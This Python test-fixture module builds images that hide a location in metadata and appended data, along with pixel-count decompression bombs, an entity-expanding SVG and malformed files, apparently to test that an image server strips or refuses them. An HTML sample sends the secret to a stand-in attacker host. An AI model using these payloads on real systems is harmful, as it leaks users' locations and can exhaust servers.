"""Pictures that nobody should keep as they are: with what tells a place in every corner of a file, and bombs.

`TELLING` opens as a picture and tells something; `BOMBS` and `STRANGE` are not to be opened at all.
"""

import asyncio
import struct
import zlib
from collections.abc import Callable, Mapping
from functools import cache
from io import BytesIO
from pathlib import Path

from PIL import Image

from support.images import image_night, images_here, lay_out_images, names_image
from support.photographs import (
    GPS_BLOCK,
    KARACHI,
    MAKE,
    MAKER_NOTE,
    ORIENTATION,
    USER_COMMENT,
    XMP,
    exif,
    heic,
    photograph,
    png_of,
    with_chunk,
    with_riff_chunk,
    with_segment,
)

SECRET = b"KARACHI-24.8600N-67.0100E"
"""What must not leave the phone, in whatever corner it was."""
HTML = b"<html><script>fetch('https://evil.example/' + 'KARACHI-24.8600N-67.0100E')</script></html>"
WIDTH, HEIGHT = 640, 480


def _jpeg() -> bytes:
    return photograph("JPEG", WIDTH, HEIGHT)


def _png() -> bytes:
    return photograph("PNG", WIDTH, HEIGHT)


def _webp(**more: object) -> bytes:
    return photograph("WEBP", WIDTH, HEIGHT, **more)


def _telling_exif() -> Image.Exif:
    inner = {MAKER_NOTE: SECRET, USER_COMMENT: b"ASCII\0\0\0" + SECRET}
    return exif({MAKE: SECRET.decode(), ORIENTATION: 6}, inner=inner, gps=KARACHI)


def _with_thumbnail() -> bytes:
    """A JPEG whose Exif holds a second, small picture, which tells a place itself."""
    small = photograph("JPEG", 160, 120, shade=200, exif=_telling_exif())
    entries = struct.pack(">HHIIHHII", 0x0201, 4, 1, 44, 0x0202, 4, 1, len(small))
    first = struct.pack(">H", 0) + struct.pack(">I", 14)
    second = struct.pack(">H", 2) + entries + struct.pack(">I", 0)
    return with_segment(_jpeg(), 0xE1, b"Exif\0\0MM\0*" + struct.pack(">I", 8) + first + second + small)


def _archive() -> bytes:
    from zipfile import ZipFile

    written = BytesIO()
    with ZipFile(written, "w") as archive:
        archive.writestr("place.txt", SECRET)
    return written.getvalue()


def _iptc() -> bytes:
    record = b"\x1c\x02\x5a" + struct.pack(">H", len(SECRET)) + SECRET
    return b"Photoshop 3.0\x008BIM\x04\x04\0\0" + struct.pack(">I", len(record)) + record


def _movie() -> bytes:
    """A motion photograph's film: boxes, with a place among them as telephones write it."""
    place = struct.pack(">I", 8 + len(SECRET)) + b"\xa9xyz" + SECRET
    return b"\0\0\0\x18ftypmp42\0\0\0\0mp42isom" + struct.pack(">I", 8 + len(place)) + b"udta" + place


def _animated(kind: str) -> bytes:
    frames = [photograph(kind, WIDTH, HEIGHT, shade=shade) for shade in (0, 90, 180)]
    first, *others = [Image.open(BytesIO(one)) for one in frames]
    written = BytesIO()
    first.save(written, kind, save_all=True, append_images=others, duration=40)
    return written.getvalue()


_TELLING: dict[str, Callable[[], bytes]] = {
    "GPS in the Exif of a JPEG": lambda: photograph("JPEG", WIDTH, HEIGHT, exif=_telling_exif()),
    "GPS in the eXIf chunk of a PNG": lambda: photograph("PNG", WIDTH, HEIGHT, exif=_telling_exif()),
    "GPS in the EXIF chunk of a WebP": lambda: _webp(exif=_telling_exif()),
    "GPS in a second Exif block": lambda: with_segment(
        photograph("JPEG", WIDTH, HEIGHT, exif=exif()), 0xE1, b"Exif\0\0" + GPS_BLOCK
    ),
    "a small picture in the Exif": _with_thumbnail,
    "XMP in a JPEG": lambda: photograph("JPEG", WIDTH, HEIGHT, xmp=XMP + SECRET),
    "extended XMP in a JPEG": lambda: with_segment(
        _jpeg(), 0xE1, b"http://ns.adobe.com/xmp/extension/\0" + SECRET
    ),
    "XMP in an iTXt chunk": lambda: with_chunk(
        _png(), b"iTXt", b"XML:com.adobe.xmp\0\0\0\0\0" + XMP + SECRET
    ),
    "XMP in a WebP": lambda: _webp(xmp=XMP + SECRET),
    "IPTC in a JPEG": lambda: with_segment(_jpeg(), 0xED, _iptc()),
    "a comment in a JPEG": lambda: with_segment(_jpeg(), 0xFE, SECRET),
    "words in a tEXt chunk": lambda: with_chunk(_png(), b"tEXt", b"Location\0" + SECRET),
    "words in a zTXt chunk": lambda: with_chunk(_png(), b"zTXt", b"Location\0\0" + zlib.compress(SECRET)),
    "raw Exif in a zTXt chunk": lambda: with_chunk(
        _png(), b"zTXt", b"Raw profile type exif\0\0" + zlib.compress(GPS_BLOCK.hex().encode())
    ),
    "an unknown chunk of a PNG": lambda: with_chunk(_png(), b"plAc", SECRET),
    "an unknown chunk of a WebP": lambda: with_riff_chunk(_webp(), b"PLAC", SECRET),
    "an unknown segment of a JPEG": lambda: with_segment(_jpeg(), 0xEB, b"JP\0\1" + SECRET),
    "a header with a second picture": lambda: with_segment(
        _jpeg(), 0xE0, b"JFXX\0\x10" + photograph("JPEG", 64, 48, exif=_telling_exif())[:60_000]
    ),
    "an archive behind it": lambda: _jpeg() + _archive(),
    "an archive behind a PNG": lambda: _png() + _archive(),
    "a film behind it": lambda: _jpeg() + _movie(),
    "a second photograph behind it": lambda: (
        _jpeg() + photograph("JPEG", WIDTH, HEIGHT, exif=_telling_exif())
    ),
    "words behind a WebP": lambda: _webp() + SECRET,
    "a page that is a JPEG": lambda: with_segment(_jpeg(), 0xFE, HTML) + HTML,
    "a page that is a PNG": lambda: with_chunk(_png(), b"tEXt", b"Comment\0" + HTML) + HTML,
    "a script that is a JPEG": lambda: with_segment(_jpeg(), 0xFE, b"*/='" + SECRET + b"'/*"),
    "a document that is a JPEG": lambda: with_segment(_jpeg(), 0xFE, b"%PDF-1.7\n1 0 obj " + SECRET),
    "an animated WebP": lambda: _animated("WEBP") + SECRET,
    "an animated PNG": lambda: with_chunk(_animated("PNG"), b"tEXt", b"a\0" + SECRET),
    "a comment that is a bomb": lambda: with_chunk(
        _png(), b"zTXt", b"a\0\0" + zlib.compress(bytes(80_000_000) + SECRET, 9)
    ),
}


def frame(width: int, height: int) -> bytes:
    """What a JPEG says of its size, and nothing else."""
    return b"\xff\xc0\0\x11\x08" + struct.pack(">HH", height, width) + b"\3\1\x22\0\2\x11\1\3\x11\1"


def _resized(width: int, height: int) -> bytes:
    """A JPEG that says to be another size than it is."""
    plain = _jpeg()
    at = plain.index(b"\xff\xc0")
    return plain[: at + 5] + struct.pack(">HH", height, width) + plain[at + 9 :]


def _large_webp() -> bytes:
    header = b"\x10\0\0\0" + (16_382).to_bytes(3, "little") + (16_382).to_bytes(3, "little")
    return b"RIFF" + struct.pack("<I", 4 + 8 + 10 + 20) + b"WEBPVP8X\x0a\0\0\0" + header + bytes(20)


_BOMBS: dict[str, Callable[[], bytes]] = {
    "a PNG of billions of pixels": lambda: png_of(60_000, 60_000),
    "a PNG of a hundred million pixels": lambda: png_of(10_900, 11_000),
    "a JPEG of billions of pixels": lambda: _resized(65_500, 65_500),
    "a JPEG whose second frame is huge": lambda: _jpeg()[:20] + frame(65_500, 65_500) + _jpeg()[20:],
    "a WebP of 268 million pixels": _large_webp,
}
_STRANGE: dict[str, Callable[[], bytes]] = {
    "nothing": lambda: b"",
    "words": lambda: b"not a picture at all" * 20,
    "an SVG that laughs": lambda: (
        b'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a "ha"><!ENTITY b "&a;&a;">]>'
        b'<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><script>1</script>&b;</svg>'
    ),
    "a GIF": lambda: photograph("GIF", WIDTH, HEIGHT),
    "a TIFF": lambda: photograph("TIFF", WIDTH, HEIGHT),
    "a BMP": lambda: photograph("BMP", WIDTH, HEIGHT),
    "a HEIC": lambda: heic(GPS_BLOCK),
    "a document": lambda: b"%PDF-1.7\n" + SECRET,
    "a JPEG cut after its header": lambda: _jpeg()[:200],
    "a PNG without its picture": lambda: png_of(640, 480, b"\0"),
    "a PNG that says another size": lambda: _png()[:16] + struct.pack(">II", 641, 480) + _png()[24:],
}


@cache
def telling() -> dict[str, bytes]:
    """Pictures that tell something."""
    return {name: make() for name, make in _TELLING.items()}


@cache
def bombs() -> dict[str, bytes]:
    """Small files that are huge pictures."""
    return {name: make() for name, make in _BOMBS.items()}


@cache
def strange() -> dict[str, bytes]:
    """What is no picture that is opened here, or a damaged one."""
    return {name: make() for name, make in _STRANGE.items()}


def statuses(tmp_path: Path, pictures: Mapping[str, bytes]) -> dict[str, tuple[int, str]]:
    """What a server answers to each: the status, and its sentence where it refused."""
    night = image_night("public")
    root = lay_out_images(night, tmp_path / "election")
    found = dict[str, tuple[int, str]]()

    async def all_of_it() -> None:
        async with images_here(root, night) as server:
            for number, (name, data) in enumerate(pictures.items()):
                await server.say(names_image(night, night.agents[0], data, number=number))
                answer = await server.put(data)
                found[name] = answer.status_code, "" if answer.is_success else answer.json()["detail"]

    asyncio.run(all_of_it())
    kept = list(root.glob("images/sha256/*/*/*"))
    assert len(kept) == len({data for name, data in pictures.items() if found[name][0] in {200, 201}})
    return found
